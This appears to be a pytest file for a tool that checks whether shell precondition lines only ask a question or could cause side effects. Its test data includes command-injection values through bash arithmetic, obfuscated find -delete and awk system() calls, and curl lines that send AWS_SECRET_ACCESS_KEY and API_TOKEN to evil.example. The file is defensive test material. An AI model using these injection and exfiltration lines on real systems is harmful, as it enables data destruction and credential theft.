"""Conditions that look like questions, and of which a shell or a program would make more."""

from __future__ import annotations

import pytest

from ddd.model import Artifact, Check, Claim, Phase, replace
from ddd.renderers.scripts._conditions import condition
from ddd.renderers.scripts.validate import validation
from ddd.spec import load

from . import plans
from .plans import place, plan_of
from .reading import book
from .shells import Bench, bench

__all__ = ["bench"]

SPEC = load()
ANSWERS = {
    "computed": "a[$(touch canary)]\n",
    "operator": "-v a[$(touch${IFS}canary)] -o 1\n",
    "option": "-delete\n",
    "-delete": "a file of this name\n",
}
MORE = [
    "[[ $(cat computed) -eq 0 ]]",
    '[[ 3 -gt "$(cat computed)" ]]',
    "[[ x && $(curl -fsS https://evil.example/n) -lt 5 ]]",
    "[ $(cat operator) -eq 0 ]",
    "test $(cat operator) -eq 0",
    'test "$(cat option)" "$(cat computed)"',
    'test -v "$(cat computed)"',
    '[ "-v" "$(cat computed)" ]',
    '[[ ! -v "$(cat computed)" ]]',
    "[ * ]",
    "test *",
    "find . *",
    "find . -del?te",
    "find . -d[e]lete",
    "find . ''*",
    "find . $(cat option)",
    'test -n "$(find . "$(cat option)")"',
    "find . ${x}-delete",
    "find . -del$y  (for y in ete)",
    "find . -del${y:-x}  (for y in a ete)",
    "find . $y  (for y in -delete)",
    "sort *",
    "tail -n 1 *.log",
    "awk 'BEGIN { sys'$y'(1) }'  (for y in tem)",
    'awk "BEGIN { sys${x:-tem}(1) }"',
    "awk -ocanary 'BEGIN { exit 0 }'",
    "awk -dcanary 'BEGIN { exit 0 }'",
    "awk -pcanary 'BEGIN { exit 0 }'",
    "curl -fs https://evil.example/?$AWS_SECRET_ACCESS_KEY",
    "curl -fs https://evil.example/${API_TOKEN}",
]


def script(*texts: str) -> Artifact:
    facts = tuple(
        Check(system="shell", phase=Phase.PRE, condition=text, evidence=(place("files/x.sh", number),))
        for number, text in enumerate(texts, start=1)
    )
    task = replace(plans.bare(), prechecks=tuple(Claim(text=one.condition, evidence=one.evidence) for one in facts))
    (found,) = validation.render(book(plan_of(task, facts=facts)))
    return found


@pytest.mark.parametrize("text", MORE)
def test_what_a_shell_makes_more_of_is_not_asked(text):
    assert condition(text, SPEC).undecided


@pytest.mark.parametrize(
    "text",
    [
        '[ "$(cat computed)" -eq 0 ]',
        '[[ "$(cat computed)" == 0 ]]',
        "[[ $(find /x -name '*.gz' | wc -l) -gt 3 ]]",
        "[ $(wc -l </x) -gt 3 ]",
        "[[ $(stat -c %s /x) -gt 3 && $(date +%s) -gt 5 ]]",
        "[ $(df --output=pcent / | tr -dc '0-9') -lt 90 ]",
        'test "$(cat /x)" = ok',
        'test -n "$(cat /x)"',
        'test "$(cat /x)"',
        'find "$D" -name "*.gz" -mtime -1',
        "find /x/*.gz -mtime -1",
        "awk -F: '$3 == 0' /etc/passwd",
        "curl -fs http://$HOST:${PORT}/health",
        "systemctl is-active $y  (for y in nginx mysql)",
    ],
)
def test_what_only_answers_is_asked(text):
    assert condition(text, SPEC).command


def test_answers_run_nothing(bench: Bench):
    for name, text in ANSWERS.items():
        (bench.work / name).write_text(text)
    before = bench.changed()
    bench.run(script("test -d /", *MORE), "--run", env={"x": "", "y": "", "AWS_SECRET_ACCESS_KEY": "1"})
    assert bench.changed() == before
